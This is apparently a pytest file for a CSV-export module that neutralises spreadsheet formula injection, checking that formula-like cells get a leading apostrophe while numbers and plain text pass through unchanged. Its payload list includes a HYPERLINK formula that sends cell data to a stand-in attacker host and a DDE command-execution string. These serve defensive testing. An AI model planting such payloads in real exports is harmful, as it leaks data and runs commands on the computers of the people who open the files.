"""CSV cells that would run as spreadsheet formulas are written as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest

from core import csvsafe

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_text_gets_a_leading_apostrophe(payload: str) -> None:
    assert csvsafe.csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [3, -3, 2.5, -0.25, Decimal("-1.50"), None, True, "-1.5", "+3"])
def test_numbers_stay_numbers(value: object) -> None:
    assert csvsafe.csv_cell(value) == value


@pytest.mark.parametrize("value", ["plain text", "a=b", "", "email@example.com", "1-2"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert csvsafe.csv_cell(value) == value


def test_the_writer_neutralises_every_cell_and_keeps_numbers() -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\n")
    writer.writerow(["=1+1", -4, "ok"])
    writer.writerows([["@me", 2.5, "-x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-4", "ok"], ["'@me", "2.5", "'-x"]]


def test_a_frame_keeps_numeric_columns_and_neutralises_text_columns() -> None:
    frame = pd.DataFrame({"score": [-1, 2], "comment": ["=cmd", None]})
    safe = csvsafe.csv_frame(frame)
    assert safe["score"].tolist() == [-1, 2]
    assert safe["comment"].tolist()[0] == "'=cmd"
    assert pd.isna(safe["comment"].tolist()[1])
    assert frame["comment"].tolist()[0] == "=cmd"
